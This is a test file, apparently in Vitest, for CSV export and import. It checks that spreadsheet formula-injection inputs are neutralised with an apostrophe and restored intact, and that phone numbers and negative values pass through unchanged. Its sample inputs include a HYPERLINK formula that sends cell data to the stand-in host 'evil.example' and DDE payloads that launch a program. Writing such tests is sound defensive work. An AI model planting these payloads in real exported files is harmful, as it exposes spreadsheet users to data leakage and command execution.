import { expect, test } from 'vitest';
import { cleanText } from './clean-text.ts';
import { csvLine } from './export-row.ts';

test.each([
  '=HYPERLINK("https://evil.example/?"&A1;"Espace")',
  ' =1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
])('%s is text for a spreadsheet, and comes back from our own import as it was', (text) => {
  expect(csvLine([text])).toMatch(/^"?'/);
  expect(cleanText(`'${text}`).value).toBe(text.trim());
});

test.each([
  '+32 81 00 00 01',
  '+32 (0)81/00.00.01',
  '+3281000001|+3281000002',
  '-4.5',
  '- un point',
  '’t Huis',
])('%s stays as it is', (text) => {
  expect(csvLine([text])).toMatch(new RegExp(`^"?${text.slice(0, 2).replace(/[+]/g, '\\+')}`));
});

test('what an apostrophe begins otherwise keeps it', () => {
  expect(cleanText("'t Huis").value).toBe("'t Huis");
});
